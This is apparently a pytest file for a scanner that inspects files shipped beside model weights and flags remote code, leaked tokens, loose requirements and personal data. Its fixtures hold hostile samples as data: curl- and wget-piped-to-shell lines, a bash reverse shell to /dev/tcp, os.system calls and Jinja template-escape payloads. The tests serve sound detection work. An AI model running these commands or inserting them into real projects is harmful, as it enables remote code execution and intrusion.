"""What lies beside weights: configurations, notebooks, scripts, requirements and plain text. Nothing in them is run."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelkeep.core.artifacts import Inspection, State
from modelkeep.engines.artifacts.inspecting import inspect
from modelkeep.engines.artifacts.policy import Policy
from modelkeep.engines.artifacts.sources import Bytes

TOKEN = "h" + "f_" + "zYxWvUtSrQpOnMlKjIhGfEdCbAzYxWvUtS"


def _inspect(name: str, content: str | bytes | dict[str, Any]) -> Inspection:
    if isinstance(content, dict):
        content = json.dumps(content)
    return inspect(name, Bytes(content.encode() if isinstance(content, str) else content), Policy())


def _notebook(*cells: dict[str, Any]) -> dict[str, Any]:
    return {"nbformat": 4, "cells": list(cells)}


@pytest.mark.parametrize(
    ("name", "content", "format_name"),
    [
        ("config.json", {"model_type": "llama", "vocab_size": 3}, "json"),
        ("tokenizer_config.json", {"chat_template": "{{ messages[0].content }}", "eos_token": "</s>"}, "json"),
        ("train.jsonl", '{"a": 1}\n{"a": 2}\n', "json"),
        ("README.md", "# A model\n\nSee os.system and eval(x).\n", "text"),
        ("merges.txt", "Ġ t\nĠ a\n", "text"),
        ("requirements.txt", "# usual\nnumpy==2.0 --hash=sha256:00\n-r other.txt\n--index-url https://a.example/simple\n", "requirements"),
        ("run.sh", "#!/bin/sh\nset -e\npython serve.py\n", "shell"),
        ("code/inference.py", "import json\n", "python"),
        ("a.ipynb", _notebook({"cell_type": "code", "source": ["%matplotlib inline\n", "x = 1\n", "!ls\n"], "outputs": []}), "notebook"),
        ("template.jinja", "{{ messages }}", "jinja"),
    ],
)  # fmt: skip
def test_what_is_ordinary_is_clean(name: str, content: str | dict[str, Any], format_name: str) -> None:
    told = _inspect(name, content)
    assert (told.state, told.formats) == (State.CLEAN, (format_name,))


@pytest.mark.parametrize(
    ("name", "content", "rule", "review"),
    [
        ("config.json", {"auto_map": {"AutoModel": "modeling.Net"}}, "remote-code", True),
        ("config.json", {"a": [{"custom_pipelines": {"x": {"impl": "p.P"}}}]}, "remote-code", True),
        ("tokenizer_config.json", {"chat_template": [{"name": "x", "template": "{{ x.__class__ }}"}]}, "template-escape", False),
        ("hparams.json", {"loss": {"_target_": "unknown_package.thing"}}, "hydra-target", True),
        ("config.json", {"hub_token": TOKEN}, "secret-in-file", False),
        (".env", f"HF_TOKEN={TOKEN}\n", "secret-in-file", False),
        ("requirements.txt", "--extra-index-url https://pkgs.example/simple\nx==1\n", "requirements-index", True),
        ("requirements.txt", "x==1\n--trusted-host pkgs.example\n", "requirements-plain-http", False),
        ("requirements.txt", "x @ git+https://git.example/x\n", "requirements-address", False),
        ("requirements.txt", "x>=1\ny\n", "requirements-unpinned", False),
        ("install.sh", "curl https://x.example/a | bash\n", "code-remote", False),
        ("start", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", "code-shell", False),
        ("a.ipynb", _notebook({"cell_type": "code", "source": "!curl https://x.example/a | sh"}), "code-remote", False),
        ("a.ipynb", _notebook({"cell_type": "code", "source": ["%%bash\n", "wget https://x.example/a.sh -O- | sh"]}), "code-remote", False),
        ("a.ipynb", _notebook({"cell_type": "code", "source": "import os\nos.system('id')"}), "python-process", True),
        ("a.ipynb", _notebook({"cell_type": "code", "source": "", "outputs": [{"text": [f"token={TOKEN}"]}]}), "secret-in-file", False),
        ("chat.jinja", "{{ ''.__class__ }}", "template-escape", False),
    ],
)  # fmt: skip
def test_what_a_person_should_know_is_told(name: str, content: str | dict[str, Any], rule: str, review: bool) -> None:
    told = _inspect(name, content)
    assert rule in {each.rule for each in told.issues}
    assert all(each.review is review for each in told.issues if each.rule == rule)
    assert TOKEN not in repr(told)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("config.json", "{"),
        ("chat.jinja", "{% if %}"),
        ("old.py", "print 'two'"),
        ("a.ipynb", "{}"),
        ("a.ipynb", "nothing"),
        ("a.ipynb", _notebook({"cell_type": "code", "source": "print 'two'"})),
        ("notes.txt", b"caf\xe9" * 5000),
        ("a.py", b"\xff\xfe\x00"),
    ],
)
def test_what_cannot_be_read_is_not_clean(name: str, content: str | bytes | dict[str, Any]) -> None:
    assert _inspect(name, content).state is State.NOT_ANALYSED


def test_python_is_read_in_the_encoding_that_it_declares() -> None:
    assert _inspect("a.py", "# coding: latin-1\nx = 'é'\n".encode("latin-1")).state is State.CLEAN


def test_code_of_another_repository_is_worse() -> None:
    told = _inspect("config.json", {"auto_map": {"AutoModel": "other/repo--modeling.Net"}})
    assert told.issues[0].severity.value == "high"


def test_data_about_many_people_is_told_without_a_value() -> None:
    people = [{"mail": f"person{number}@acme.io", "city": "Basel"} for number in range(12)]
    told = _inspect("train.jsonl", "\n".join(map(json.dumps, people)))
    assert [(each.rule, each.review, each.message) for each in told.issues] == [
        ("personal-data-in-file", True, "12 different values of the kind e-mail address")
    ]
    assert "person1" not in repr(told)


def test_a_secret_in_a_very_long_line_is_found() -> None:
    told = _inspect("data.txt", "x " * 90_000 + TOKEN + " y" * 50_000)
    assert {each.rule for each in told.issues} == {"secret-in-file"}


@settings(max_examples=50, deadline=None)
@given(st.sampled_from(["a.json", "a.py", "a.ipynb", "a.jinja", "requirements.txt", "a.sh", "a"]), st.text(max_size=60))
def test_no_text_brings_it_down(name: str, text: str) -> None:
    _inspect(name, text)
